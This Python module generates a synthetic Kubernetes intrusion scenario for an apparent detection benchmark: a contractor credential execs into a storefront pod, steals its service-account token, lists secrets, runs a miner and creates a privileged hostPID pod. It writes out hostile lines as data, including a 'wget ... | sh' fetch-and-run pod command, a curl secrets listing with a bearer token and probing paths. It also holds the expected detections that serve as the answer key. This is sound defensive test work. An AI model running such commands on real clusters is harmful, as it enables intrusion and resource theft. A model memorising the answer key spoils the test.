# ruff: noqa: E501  (message templates stay on one line, as they appear in the files)
"""cryptominer: a contractor credential, an exec, a stolen token, a miner and a privileged pod."""

from __future__ import annotations

import json
from dataclasses import dataclass

import numpy as np

from obskit.datasets import _formats as F
from obskit.datasets._cluster import (
    EDIT_RULES,
    MI,
    RBAC,
    App,
    add_apps,
    add_falco,
    add_nodes,
    add_system,
    default_deny,
    human_request,
    k8s_object,
    long_line,
    make_truth,
    malformed_cri,
    pod_security,
    populate_all,
    retire_old_pod,
    role_binding,
    second,
)
from obskit.datasets._lifecycle import lifecycle_records
from obskit.datasets._world import NS, CSpec, Pod, Workload, World


@dataclass(frozen=True)
class _Target:
    """The pod the attacker enters: its node, Falco's hostname there, the attacker's address,
    and the container fields and text Falco's alerts about it carry."""

    victim: Pod
    node: dict
    host: str
    attacker_ip: str
    fields: dict
    ctx: str


def cryptominer(seed: int, scale: float) -> tuple[World, dict]:
    w = World("cryptominer", "prod-us-1", seed, scale, "2024-09-10T19:00:00Z", 2.0)
    add_nodes(w, "eks", 4)
    add_system(w)
    for ns in ("web", "api", "ci"):
        w.add_namespace(ns, 90)
    add_falco(w, "0.37.1", 80)
    web = _apps(w, scale)
    populate_all(w)
    w.base_signals()
    tg = _target(w, web)
    _ci_rollout(w, web)
    human_request(
        w,
        w.at(33),
        "sre-bob@example.com",
        "10.0.200.40",
        "get",
        "/api/v1/namespaces/web/pods?limit=500",
        "pods",
        "web",
    )
    t_exec = _exec_shell(w, tg)
    t_api, t_ext, sa_user = _steal_token(w, tg, t_exec)
    t_drop, mine = _drop_and_mine(w, tg, t_exec, scale)
    t_pod, priv, other = _privileged_pod(w, tg, sa_user, t_ext)
    _helper_mines(w, priv, other, t_pod, scale)
    gw_host = _gateway_alert(w)
    _storefront_symptoms(w, tg, t_exec, mine)
    long_line(w, second([p for p in w.pods if p.wl.name == "graphql-gateway"]), w.at(70), 180)
    malformed_cri(w, [p for p in w.pods if p.wl.name == "catalog"][-1], w.at(90), "truncated")
    lifecycle_records(w)
    # a cut Falco line (the agent was restarted mid-write)
    w.falco.append((w.at(110), '{"hostname":"' + gw_host + '","output":"21:50:02.114'))
    w.malformed["falco/falco.json"] = 1
    det = _detections(tg, t_exec, t_api, t_drop, t_ext, t_pod)
    truth = make_truth(
        w,
        ns="web",
        kind="Deployment",
        wl="storefront",
        pod=tg.victim.name,
        container="storefront",
        node=tg.node["name"],
        level="pod",
        fault_start=t_exec,
        category="intrusion",
        description="Attacker with a contractor credential execs into a storefront pod, steals its service-account token, lists secrets, starts a miner and a privileged mining pod.",
        detections=det,
    )
    truth["attacker_ips"] = [tg.attacker_ip]
    _cryptominer_posture(w)
    return w, truth


def _apps(w: World, scale: float) -> dict[str, Workload]:
    """web (storefront, catalog, a Redis for sessions) and api (a GraphQL gateway, inventory)."""
    reps = lambda k: max(1, round(k * scale))  # noqa: E731
    web = add_apps(
        w,
        "web",
        [
            App(
                name="storefront",
                replicas=reps(3),
                image="registry.example.com/web/storefront:2.31.0",
                port=3000,
                style="json",
                rps=20.0,
                cpu=0.1,
                mem=220 * MI,
            ),
            App(
                name="catalog",
                replicas=reps(2),
                image="registry.example.com/web/catalog:1.18.4",
                port=8080,
                style="logfmt",
                rps=12.0,
                cpu=0.07,
                mem=150 * MI,
            ),
            App(
                name="sessions",
                replicas=1,
                image="docker.io/library/redis:7.2.4",
                port=6379,
                style="redis",
                rps=0.0,
                cpu=0.02,
                mem=40 * MI,
                kind="StatefulSet",
                log_rate=0.003,
            ),
        ],
    )
    add_apps(
        w,
        "api",
        [
            App(
                name="graphql-gateway",
                replicas=reps(2),
                image="registry.example.com/api/gateway:0.40.1",
                port=4000,
                style="json",
                rps=15.0,
                cpu=0.12,
                mem=210 * MI,
            ),
            App(
                name="inventory",
                replicas=reps(2),
                image="registry.example.com/api/inventory:3.0.0",
                port=8080,
                style="java",
                rps=7.0,
                cpu=0.2,
                mem=380 * MI,
            ),
        ],
    )
    return web


def _target(w: World, web: dict[str, Workload]) -> _Target:
    """The storefront pod the attacker enters, and how Falco names its container."""
    victim = next(p for p in w.pods if p.wl is web["storefront"])
    node = victim.node
    falco_host = node["name"]  # the falco chart sets FALCO_HOSTNAME from spec.nodeName
    attacker_ip = "203.0.113.77"
    c_id = victim.cstates[0].attempts[0].cid[:12]
    base_fields = {
        "container.id": c_id,
        "container.image.repository": "registry.example.com/web/storefront",
        "container.image.tag": "2.31.0",
        "container.name": "storefront",
        "k8s.ns.name": "web",
        "k8s.pod.name": victim.name,
    }
    ctx = (
        f"container_id={c_id} container_name=storefront container_image_repository=registry.example.com/web/storefront "
        f"container_image_tag=2.31.0 k8s_pod_name={victim.name} k8s_ns_name=web"
    )
    return _Target(victim, node, falco_host, attacker_ip, base_fields, ctx)


def _ci_rollout(w: World, web: dict[str, Workload]) -> None:
    """Benign: CI deploys catalog 1.18.5 at minute 24, a rolling update pod by pod."""
    cat = web["catalog"]
    t_ci = w.at(24.0)
    ci_sa = w.sa_user("ci", "deployer", w.uid())
    w.audit_event(
        t_ci,
        user=ci_sa,
        verb="patch",
        uri="/apis/apps/v1/namespaces/web/deployments/catalog?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
        resource="deployments",
        ns="web",
        name="catalog",
        group="apps",
        ips=["10.0.200.15"],
        ua="kubectl/v1.29.1 (linux/amd64) kubernetes/bc401b9",
        level="RequestResponse",
        request_object={
            "spec": {
                "template": {
                    "spec": {
                        "containers": [
                            {"image": "registry.example.com/web/catalog:1.18.5", "name": "catalog"}
                        ]
                    }
                }
            }
        },
        reason='RBAC: allowed by RoleBinding "deployer/web" of ClusterRole "edit" to ServiceAccount "deployer/ci"',
    )
    rev = w.add_revision(cat, t_ci + NS, {"catalog": "registry.example.com/web/catalog:1.18.5"})
    cat.generation += 1
    old_hash = cat.revisions[-2]["hash"]
    tt = t_ci + NS
    olds = [p for p in w.pods if p.wl is cat]
    for i, old in enumerate(olds):
        w.event(
            "Deployment",
            "catalog",
            "web",
            cat.uid,
            "ScalingReplicaSet",
            f"Scaled up replica set catalog-{rev['hash']} to {i + 1}" + (f" from {i}" if i else ""),
            tt,
            comp="deployment-controller",
            api_version="apps/v1",
        )
        np_ = w.add_pod(cat, tt + int(0.2 * NS), rev=rev)
        np_.cpu, np_.mem, np_.rps, np_.p99, np_.err_frac, np_.log_factor = (
            old.cpu,
            old.mem,
            old.rps,
            old.p99,
            old.err_frac,
            old.log_factor,
        )
        rt = np_.cstates[0].attempts[0].start + int(6 * NS)
        retire_old_pod(w, cat, "web", old_hash, old, len(olds) - i, rt)
        tt = rt + NS


def _exec_shell(w: World, tg: _Target) -> int:
    """Minute 52: the contractor credential opens a shell in the storefront pod."""
    victim, ctx, base_fields, falco_host = tg.victim, tg.ctx, tg.fields, tg.host
    attacker_ip = tg.attacker_ip
    t_exec = w.at(52.0)
    exec_user = {"username": "dev-contractor-7", "groups": ["contractors", "system:authenticated"]}
    exec_uri = f"/api/v1/namespaces/web/pods/{victim.name}/exec?command=%2Fbin%2Fsh&container=storefront&stdin=true&stdout=true&tty=true"
    aid = w.uid()
    for stage, code, dt in (("ResponseStarted", 101, 0), ("ResponseComplete", 101, 4 * 60 * NS)):
        w.audit_event(
            t_exec + dt,
            user=exec_user,
            verb="create",
            uri=exec_uri,
            resource="pods",
            ns="web",
            name=victim.name,
            sub="exec",
            code=code,
            ips=[attacker_ip],
            ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
            stage=stage,
            audit_id=aid,
            latency_ms=30.0 if dt == 0 else 240000.0,
            reason='RBAC: allowed by RoleBinding "contractors-debug/web" of ClusterRole "contractor-debug" to Group "contractors"',
        )
    w.falco_alert(
        t_exec + int(0.6 * NS),
        "Terminal shell in container",
        "Notice",
        f"A shell was spawned in a container with an attached terminal (evt_type=execve user=node user_uid=1000 user_loginuid=-1 "
        f"process=sh proc_exepath=/bin/sh parent=runc command=sh terminal=34816 exe_flags=EXE_WRITABLE {ctx})",
        {
            **base_fields,
            "evt.arg.flags": "EXE_WRITABLE",
            "evt.type": "execve",
            "proc.cmdline": "sh",
            "proc.exepath": "/bin/sh",
            "proc.name": "sh",
            "proc.pname": "runc",
            "proc.tty": 34816,
            "user.loginuid": -1,
            "user.name": "node",
            "user.uid": 1000,
        },
        ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
        falco_host,
    )
    return t_exec


def _steal_token(w: World, tg: _Target, t_exec: int) -> tuple[int, int, dict]:
    """From the shell, curl lists web's secrets with the pod's token; six minutes later the
    token is used from the attacker's address (cluster-wide list refused, web's allowed)."""
    victim, ctx, base_fields, falco_host = tg.victim, tg.ctx, tg.fields, tg.host
    attacker_ip = tg.attacker_ip
    t_api = t_exec + int(75 * NS)
    w.falco_alert(
        t_api,
        "Contact K8S API Server From Container",
        "Notice",
        f"Unexpected connection to K8s API Server from container (connection=10.244.0.0:41822->172.20.0.1:443 lport=443 rport=41822 "
        f"fd_type=ipv4 fd_proto=tcp evt_type=connect user=node user_uid=1000 user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl "
        f"parent=sh command=curl -sk -H Authorization:\\ Bearer\\ *** https://172.20.0.1/api/v1/namespaces/web/secrets terminal=34816 {ctx})",
        {
            **base_fields,
            "evt.type": "connect",
            "fd.name": "10.244.0.0:41822->172.20.0.1:443",
            "fd.rip": "172.20.0.1",
            "fd.rport": 443,
            "proc.cmdline": "curl -sk -H Authorization: Bearer *** https://172.20.0.1/api/v1/namespaces/web/secrets",
            "proc.exepath": "/usr/bin/curl",
            "proc.name": "curl",
            "proc.pname": "sh",
            "user.name": "node",
            "user.uid": 1000,
        },
        ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
        falco_host,
    )
    sa_uid = w.uid()
    jti = w.uid()
    sa_user = w.sa_user("web", "storefront", sa_uid, victim, jti)
    w.audit_event(
        t_api + int(0.05 * NS),
        user=sa_user,
        verb="list",
        uri="/api/v1/namespaces/web/secrets",
        resource="secrets",
        ns="web",
        ips=[victim.ip],
        ua="curl/8.5.0",
        reason='RBAC: allowed by RoleBinding "storefront-edit/web" of ClusterRole "edit" to ServiceAccount "storefront/web"',
    )
    t_ext = t_api + int(6 * 60 * NS)
    w.audit_event(
        t_ext,
        user=sa_user,
        verb="list",
        uri="/api/v1/secrets?limit=500",
        resource="secrets",
        ips=[attacker_ip],
        ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
        code=403,
        decision="forbid",
        reason="",
        status={
            "metadata": {},
            "status": "Failure",
            "message": 'secrets is forbidden: User "system:serviceaccount:web:storefront" cannot list resource "secrets" in API group "" at the cluster scope',
            "reason": "Forbidden",
            "details": {"kind": "secrets"},
            "code": 403,
        },
    )
    w.audit_event(
        t_ext + int(8 * NS),
        user=sa_user,
        verb="list",
        uri="/api/v1/namespaces/web/secrets?limit=500",
        resource="secrets",
        ns="web",
        ips=[attacker_ip],
        ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
        reason='RBAC: allowed by RoleBinding "storefront-edit/web" of ClusterRole "edit" to ServiceAccount "storefront/web"',
    )
    return t_api, t_ext, sa_user


def _drop_and_mine(w: World, tg: _Target, t_exec: int, scale: float) -> tuple[int, np.ndarray]:
    """Three minutes after the exec a dropped binary starts mining in the storefront pod."""
    victim, ctx, base_fields, falco_host = tg.victim, tg.ctx, tg.fields, tg.host
    node = tg.node
    t_ns = w.grid * NS
    t_drop = t_exec + int(3 * 60 * NS)
    w.falco_alert(
        t_drop,
        "Drop and execute new binary in container",
        "Critical",
        f"Executing binary not part of base image (proc_exe=/tmp/.x/kworkerd proc_sname=sh gparent=runc proc_exe_ino_ctime=1725998{int(w.rng.integers(100000, 999999))} "
        f"proc_exe_ino_mtime=1725998{int(w.rng.integers(100000, 999999))} proc_exe_ino_ctime_duration_proc_start=412 proc_cwd=/tmp/.x/ "
        f"container_start_ts={victim.cstates[0].attempts[0].start} evt_type=execve user=node user_uid=1000 user_loginuid=-1 process=kworkerd "
        f"proc_exepath=/tmp/.x/kworkerd parent=sh command=kworkerd -c config.json terminal=34816 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER {ctx})",
        {
            **base_fields,
            "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
            "evt.type": "execve",
            "proc.cmdline": "kworkerd -c config.json",
            "proc.cwd": "/tmp/.x/",
            "proc.exepath": "/tmp/.x/kworkerd",
            "proc.name": "kworkerd",
            "proc.pname": "sh",
            "proc.sname": "sh",
            "user.loginuid": -1,
            "user.name": "node",
            "user.uid": 1000,
        },
        ["T1562", "container", "maturity_stable", "mitre_defense_evasion", "process"],
        falco_host,
    )
    pool_ip = "198.51.100.203"
    for k in range(int(6 * max(1, scale))):
        tk = t_drop + int((4 + k * 17 + float(w.rng.uniform(0, 5))) * NS)
        w.falco_alert(
            tk,
            "Detect outbound connections to common miner pool ports",
            "Critical",
            f"Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip={pool_ip} port=3333 command=kworkerd -c config.json "
            f"pid={int(w.rng.integers(200, 900))} {ctx})",
            {
                **base_fields,
                "evt.type": "connect",
                "fd.rip": pool_ip,
                "fd.rport": 3333,
                "fd.sip": pool_ip,
                "proc.cmdline": "kworkerd -c config.json",
                "proc.name": "kworkerd",
                "proc.pid": int(w.rng.integers(200, 900)),
            },
            ["T1496", "container", "maturity_sandbox", "mitre_impact", "network"],
            falco_host,
        )
    mine = t_ns >= t_drop
    victim.cpu = victim.cpu + 1.6 * mine * (1 + w.noise(0.03))
    w.node_cpu_extra[node["name"]] = 0.0
    return t_drop, mine


def _privileged_pod(w: World, tg: _Target, sa_user: dict, t_ext: int) -> tuple[int, Pod, dict]:
    """45 s after the token's outside use it creates a privileged hostPID pod on another node."""
    node, attacker_ip = tg.node, tg.attacker_ip
    t_ns = w.grid * NS
    t_pod = t_ext + int(45 * NS)
    priv_wl = w.add_workload(
        Workload(
            kind="Pod",
            name="kube-metrics-helper",
            ns="web",
            replicas=1,
            containers=[
                CSpec(
                    "helper",
                    "docker.io/library/alpine:3.19",
                    readiness=None,
                    privileged=True,
                    cpu_req="10m",
                    mem_req="16Mi",
                )
            ],
            created=t_pod,
            sa="storefront",
            style="json",
            log_rate=0.0,
            cpu=1.8,
            mem=60 * MI,
            service=False,
            labels={"run": "kube-metrics-helper"},
        )
    )
    priv_wl.revisions.append(
        {"hash": "", "uid": "", "created": t_pod, "images": {}, "number": 1, "replicas_end": 1}
    )
    other = [n for n in w.nodes if n is not node][1]
    priv = w.add_pod(priv_wl, t_pod, node=other, name="kube-metrics-helper")
    priv.cpu = np.where(t_ns > t_pod + 20 * NS, 1.8, 0.0) * (1 + w.noise(0.03))
    priv.mem = np.full(len(w.grid), 60.0 * MI)
    priv.err_frac = np.zeros(len(w.grid))
    w.audit_event(
        t_pod,
        user=sa_user,
        verb="create",
        uri="/api/v1/namespaces/web/pods?fieldManager=kubectl-run",
        resource="pods",
        ns="web",
        name="kube-metrics-helper",
        code=201,
        ips=[attacker_ip],
        ua="kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3",
        level="RequestResponse",
        request_object={
            "kind": "Pod",
            "apiVersion": "v1",
            "metadata": {
                "name": "kube-metrics-helper",
                "namespace": "web",
                "labels": {"run": "kube-metrics-helper"},
            },
            "spec": {
                "hostPID": True,
                "containers": [
                    {
                        "name": "helper",
                        "image": "alpine:3.19",
                        "command": ["/bin/sh", "-c", "wget -qO- http://198.51.100.203/k.sh | sh"],
                        "securityContext": {"privileged": True},
                    }
                ],
            },
        },
        reason='RBAC: allowed by RoleBinding "storefront-edit/web" of ClusterRole "edit" to ServiceAccount "storefront/web"',
        extra_ann={"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
    )
    return t_pod, priv, other


def _helper_mines(w: World, priv: Pod, other: dict, t_pod: int, scale: float) -> None:
    """The privileged pod runs XMRig: pool connections Falco flags, XMRig's banner in its log."""
    pool_ip = "198.51.100.203"
    helper_host = other["name"]
    for k in range(int(4 * max(1, scale))):
        tk = t_pod + int((40 + k * 23) * NS)
        cid2 = priv.cstates[0].attempts[0].cid[:12]
        w.falco_alert(
            tk,
            "Detect outbound connections to common miner pool ports",
            "Critical",
            f"Outbound connection to IP/Port flagged by https://cryptoioc.ch (ip={pool_ip} port=3333 command=xmrig --donate-level 1 "
            f"pid={int(w.rng.integers(200, 900))} container_id={cid2} container_name=helper container_image_repository=docker.io/library/alpine "
            "container_image_tag=3.19 k8s_pod_name=kube-metrics-helper k8s_ns_name=web)",
            {
                "container.id": cid2,
                "container.image.repository": "docker.io/library/alpine",
                "container.image.tag": "3.19",
                "container.name": "helper",
                "evt.type": "connect",
                "fd.rip": pool_ip,
                "fd.rport": 3333,
                "fd.sip": pool_ip,
                "k8s.ns.name": "web",
                "k8s.pod.name": "kube-metrics-helper",
                "proc.cmdline": "xmrig --donate-level 1",
                "proc.name": "xmrig",
                "proc.pid": int(w.rng.integers(200, 900)),
            },
            ["T1496", "container", "maturity_sandbox", "mitre_impact", "network"],
            helper_host,
        )
    w.log(
        priv,
        t_pod + 25 * NS,
        " * ABOUT        XMRig/6.21.0 gcc/10.2.1 (built for Linux x86-64, 64 bit)",
    )
    w.log(priv, t_pod + 26 * NS, f" * POOL #1      {pool_ip}:3333 algo auto")
    w.log(
        priv,
        t_pod + 31 * NS,
        "[2024-09-10 20:00:31.402]  net      use pool 198.51.100.203:3333  198.51.100.203",
    )


def _gateway_alert(w: World) -> str:
    """Benign Falco noise elsewhere: PAM reads /etc/shadow in a gateway pod at minute 34."""
    gw = next(p for p in w.pods if p.wl.name == "graphql-gateway")
    gw_host = gw.node["name"]
    w.falco_alert(
        w.at(34),
        "Read sensitive file untrusted",
        "Warning",
        "Sensitive file opened for reading by non-trusted program (file=/etc/shadow gparent=containerd-shim ggparent=systemd "
        "gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=pam_tally2 proc_exepath=/usr/sbin/pam_tally2 "
        f"parent=sh command=pam_tally2 --reset terminal=0 container_id={gw.cstates[0].attempts[0].cid[:12]} container_name=graphql-gateway "
        f"container_image_repository=registry.example.com/api/gateway container_image_tag=0.40.1 k8s_pod_name={gw.name} k8s_ns_name=api)",
        {
            "container.id": gw.cstates[0].attempts[0].cid[:12],
            "container.image.repository": "registry.example.com/api/gateway",
            "container.image.tag": "0.40.1",
            "container.name": "graphql-gateway",
            "evt.type": "openat",
            "fd.name": "/etc/shadow",
            "k8s.ns.name": "api",
            "k8s.pod.name": gw.name,
            "proc.cmdline": "pam_tally2 --reset",
            "proc.name": "pam_tally2",
            "user.name": "root",
            "user.uid": 0,
        },
        ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
        gw_host,
    )
    return gw_host


def _storefront_symptoms(w: World, tg: _Target, t_exec: int, mine: np.ndarray) -> None:
    """The probing that preceded the exec in storefront's log, and its slowdown once mining."""
    victim, attacker_ip = tg.victim, tg.attacker_ip
    w.err_text["storefront"] = [
        "upstream timeout rendering product page",
        "render failed: worker pool saturated",
    ]
    victim.err_frac = 0.05 * mine
    victim.p99 = victim.p99 * (1 + 4 * mine)
    for k, path in enumerate(
        ["/.env", "/api/debug/vars", "/actuator/env", "/server-status", "/api/render?tpl={{7*7}}"]
    ):
        tk = t_exec - int((20 - k * 3) * 60 * NS)
        w.log(
            victim,
            tk,
            json.dumps(
                {
                    "level": "warn",
                    "ts": round(tk / NS, 6),
                    "caller": "server/router.go:77",
                    "msg": "unknown route",
                    "method": "GET",
                    "path": path,
                    "status": 404,
                    "remote_addr": attacker_ip,
                    "user_agent": "Mozilla/5.0 zgrab/0.x",
                },
                separators=(",", ":"),
            ),
        )


def _detections(
    tg: _Target, t_exec: int, t_api: int, t_drop: int, t_ext: int, t_pod: int
) -> list[dict]:
    """The detections the analysis must make, with their subject, pod and time."""
    victim = tg.victim
    det = [
        {
            "id": "audit.pod-exec-unusual-subject",
            "subject": "dev-contractor-7",
            "pod": victim.name,
            "time": F.ts_s(t_exec),
        },
        {
            "id": "falco.terminal-shell-in-container",
            "subject": "node",
            "pod": victim.name,
            "time": F.ts_s(t_exec + int(0.6 * NS)),
        },
        {
            "id": "falco.contact-k8s-api-from-container",
            "subject": "node",
            "pod": victim.name,
            "time": F.ts_s(t_api),
        },
        {
            "id": "audit.secrets-list-by-serviceaccount",
            "subject": "system:serviceaccount:web:storefront",
            "pod": victim.name,
            "time": F.ts_s(t_api),
        },
        {
            "id": "falco.drop-and-execute-new-binary",
            "subject": "node",
            "pod": victim.name,
            "time": F.ts_s(t_drop),
        },
        {
            "id": "falco.miner-pool-connection",
            "subject": "kworkerd",
            "pod": victim.name,
            "time": F.ts_s(t_drop + 4 * NS),
        },
        {
            "id": "audit.serviceaccount-token-unusual-source-ip",
            "subject": "system:serviceaccount:web:storefront",
            "pod": victim.name,
            "time": F.ts_s(t_ext),
        },
        {
            "id": "audit.privileged-pod-created",
            "subject": "system:serviceaccount:web:storefront",
            "pod": "kube-metrics-helper",
            "time": F.ts_s(t_pod),
        },
        {
            "id": "falco.miner-pool-connection",
            "subject": "xmrig",
            "pod": "kube-metrics-helper",
            "time": F.ts_s(t_pod + 40 * NS),
        },
    ]
    return det


def _cryptominer_posture(w: World) -> None:
    """The RBAC the audit log's decisions name (storefront's and the deployer's "edit" in web,
    the contractors' exec), Pod Security labels, and api's default-deny NetworkPolicy."""
    sa = lambda name, ns: {"kind": "ServiceAccount", "name": name, "namespace": ns}  # noqa: E731
    contractors = {"apiGroup": RBAC, "kind": "Group", "name": "contractors"}
    debug_rules = [
        {"apiGroups": [""], "resources": ["pods", "pods/log"], "verbs": ["get", "list"]},
        {"apiGroups": [""], "resources": ["pods/exec"], "verbs": ["create"]},
    ]
    w.objects["rbac"] = [
        k8s_object(w, f"{RBAC}/v1", "ClusterRole", "edit", None, rules=EDIT_RULES),
        k8s_object(w, f"{RBAC}/v1", "ClusterRole", "contractor-debug", None, rules=debug_rules),
        role_binding(w, "storefront-edit", "web", "edit", sa("storefront", "web")),
        role_binding(w, "deployer", "web", "edit", sa("deployer", "ci")),
        role_binding(w, "contractors-debug", "web", "contractor-debug", contractors),
    ]
    w.objects["networkpolicies"] = [default_deny(w, "api")]
    pod_security(w, "api", enforce="baseline", warn="restricted")
    pod_security(w, "web", warn="baseline")
